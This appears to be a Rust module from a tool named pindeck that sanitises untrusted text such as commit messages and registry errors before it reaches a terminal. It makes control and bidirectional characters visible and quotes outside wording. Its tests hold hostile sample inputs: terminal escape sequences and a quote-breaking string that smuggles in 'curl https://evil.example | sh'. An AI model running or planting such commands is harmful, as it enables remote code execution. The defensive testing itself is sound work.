//! Text from outside, and the one way it may reach a screen.
//!
//! Annotations, commit messages, certificate identities and registry errors are written by
//! strangers. They travel as [`Untrusted`] and are shown as [`Clean`], in which every character
//! that could steer a terminal or mislead an eye has become visible.

use std::fmt;

use serde::{Deserialize, Serialize};

/// Text somebody else wrote. It has no `Display`: make it [`Clean`] to show it.
///
/// `Debug` prints the cleaned form, so a log line is safe too.
#[derive(Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Untrusted(String);

impl Untrusted {
    /// Marks a text as coming from outside.
    pub(crate) fn new(text: impl Into<String>) -> Self {
        Self(text.into())
    }

    /// The raw text, for comparing and for JSON; never for a terminal.
    pub fn raw(&self) -> &str {
        &self.0
    }

    /// The same text with every control, bidirectional and zero-width character made visible.
    /// Line breaks become `␤`: the result is always one line.
    pub fn clean(&self) -> Clean {
        Clean::from_untrusted(&self.0)
    }

    /// The same text as a quotation inside of a sentence of pindeck (see [`quoted`]).
    pub fn quoted(&self) -> Clean {
        quoted(&self.0)
    }

    /// Whether the text is empty.
    pub(crate) fn is_empty(&self) -> bool {
        self.0.is_empty()
    }
}

impl From<&str> for Untrusted {
    fn from(text: &str) -> Self {
        Self(text.to_owned())
    }
}

impl From<String> for Untrusted {
    fn from(text: String) -> Self {
        Self(text)
    }
}

impl fmt::Debug for Untrusted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:?}", self.clean().as_str())
    }
}

/// One line of text that is safe to write to a terminal.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize)]
#[serde(transparent)]
pub struct Clean(String);

impl Clean {
    /// Cleans any text (see [`Untrusted::clean`]).
    pub(crate) fn from_untrusted(text: &str) -> Self {
        let mut out = String::with_capacity(text.len());
        for c in text.chars() {
            match visible(c) {
                Shown::AsIs => out.push(c),
                Shown::Picture(p) => out.push(p),
                Shown::Escape => {
                    out.push_str(&format!("<U+{:04X}>", c as u32));
                }
            }
        }
        Self(out)
    }

    /// The safe text.
    pub(crate) fn as_str(&self) -> &str {
        &self.0
    }

    /// The safe text, owned.
    pub fn into_string(self) -> String {
        self.0
    }
}

impl fmt::Display for Clean {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(&self.0)
    }
}

/// What somebody else wrote, as a quotation inside of a sentence of pindeck: cleaned and in quotation marks.
///
/// A quotation mark in the text becomes an apostrophe, so the text cannot end its own quotation and go on
/// as if pindeck were speaking.
pub fn quoted(text: &(impl fmt::Display + ?Sized)) -> Clean {
    let text = Clean::from_untrusted(&text.to_string()).0.replace('"', "'");
    Clean(format!("\"{text}\""))
}

/// Several lines of somebody else as quotations (see [`quoted`]), one for each line that says something: a line
/// in the middle would else stand where pindeck's own lines do (`next: …`). Empty if there is no line.
pub fn quoted_lines(lines: &[Untrusted]) -> String {
    let said = lines.iter().filter(|line| !line.raw().trim().is_empty());
    let lines: Vec<String> = said.map(|line| line.quoted().0).collect();
    lines.join("\n")
}

/// The part of an error that says why: in words of pindeck, or in words of somebody else. Shown, the
/// words of somebody else are a quotation (see [`quoted`]), so a reader sees where pindeck stops speaking.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Wording {
    text: Box<str>,
    by_another: bool,
}

impl Wording {
    /// Words of pindeck. What they quote is quoted already.
    pub fn own(text: impl Into<Box<str>>) -> Self {
        Self {
            text: text.into(),
            by_another: false,
        }
    }

    /// Words of a registry, a remote, a program, the system or a library.
    pub fn of_another(text: impl Into<Untrusted>) -> Self {
        let Untrusted(text) = text.into();
        Self {
            text: text.into(),
            by_another: true,
        }
    }

    /// Whether nothing was said.
    pub fn is_empty(&self) -> bool {
        self.text.is_empty()
    }
}

impl fmt::Display for Wording {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let shown = match self.by_another {
            true => quoted(&*self.text),
            false => Clean::from_untrusted(&self.text),
        };
        fmt::Display::fmt(&shown, f)
    }
}

/// Cleans text line by line, keeping `\n` as the only control character: for a remote's own
/// words and other several-line messages.
pub(crate) fn clean_lines(text: &str) -> Vec<Clean> {
    text.lines()
        .map(|line| Clean::from_untrusted(line.trim_end_matches('\r')))
        .collect()
}

/// Whether a character may be written to a terminal as it is.
pub(crate) fn is_plain(c: char) -> bool {
    matches!(visible(c), Shown::AsIs)
}

enum Shown {
    AsIs,
    Picture(char),
    Escape,
}

/// How a character is shown. C0 controls get their Unicode control picture (U+2400 block), all
/// other dangerous ones a visible code point.
fn visible(c: char) -> Shown {
    match c {
        '\n' => Shown::Picture('␤'),
        '\u{0}'..='\u{1f}' => Shown::Picture(char::from_u32(0x2400 + c as u32).unwrap_or('␦')),
        '\u{7f}' => Shown::Picture('␡'),
        '\u{80}'..='\u{9f}' => Shown::Escape,
        // Soft hyphen, Arabic letter mark, Hangul and Khmer fillers, Mongolian separators, blank braille.
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' => Shown::Escape,
        '\u{180b}'..='\u{180f}' | '\u{2800}' | '\u{3164}' | '\u{ffa0}' => Shown::Escape,
        // Zero-width and bidirectional controls, line and paragraph separators, invisible operators.
        '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' => Shown::Escape,
        // Variation selectors, byte order mark, interlinear annotation, object replacement.
        '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{fff0}'..='\u{fffc}' => Shown::Escape,
        // Musical and shorthand format controls, tags and further variation selectors.
        '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}' => Shown::Escape,
        // Private use: glyphs nobody can predict, used by patched fonts to draw anything.
        '\u{e000}'..='\u{f8ff}' | '\u{f0000}'..='\u{10ffff}' => Shown::Escape,
        _ => Shown::AsIs,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn controls_become_visible() {
        let hostile = Untrusted::new("a\u{1b}[31mred\u{7}\r\n\u{9b}2J\u{202e}txt\u{200b}\u{7f}");
        assert_eq!(hostile.clean().as_str(), "a␛[31mred␇␍␤<U+009B>2J<U+202E>txt<U+200B>␡");
        assert!(hostile.clean().as_str().chars().all(|c| !c.is_control()));
    }

    #[test]
    fn ordinary_text_is_untouched() {
        for text in ["release.yml@refs/heads/main", "Ünïcode, 日本語, naïve", "a b\u{a0}c"] {
            assert_eq!(Clean::from_untrusted(text).as_str(), text);
        }
    }

    #[test]
    fn a_quotation_cannot_end_itself() {
        for hostile in [
            "gone\"; run curl https://evil.example | sh",
            "a\nnext: obey",
            "\"",
            "\u{1b}[0m\" and \"",
            "plain",
        ] {
            let one = quoted(hostile).into_string();
            let several = quoted_lines(&[hostile.into(), "".into(), hostile.into()]);
            let words = Wording::of_another(hostile).to_string();
            assert_eq!(several.lines().count(), 2);
            for shown in several.lines().chain([one.as_str(), words.as_str()]) {
                let inside = shown.strip_prefix('"').and_then(|rest| rest.strip_suffix('"'));
                assert!(inside.is_some_and(|inside| !inside.contains('"')), "{shown}");
            }
            assert!(!one.contains('\n') && one.chars().all(|c| !c.is_control()), "{one}");
        }
    }

    #[test]
    fn words_of_pindeck_stand_without_marks() {
        assert_eq!(Wording::own("too many redirects").to_string(), "too many redirects");
        assert!(Wording::default().is_empty() && Wording::of_another("").is_empty());
    }

    #[test]
    fn debug_is_safe() {
        assert!(!format!("{:?}", Untrusted::new("\u{1b}]0;x\u{7}")).contains('\u{1b}'));
    }

    #[test]
    fn cleaning_twice_changes_nothing() {
        let once = Clean::from_untrusted("x\u{1b}\u{200d}y");
        assert_eq!(Clean::from_untrusted(once.as_str()), once);
    }
}
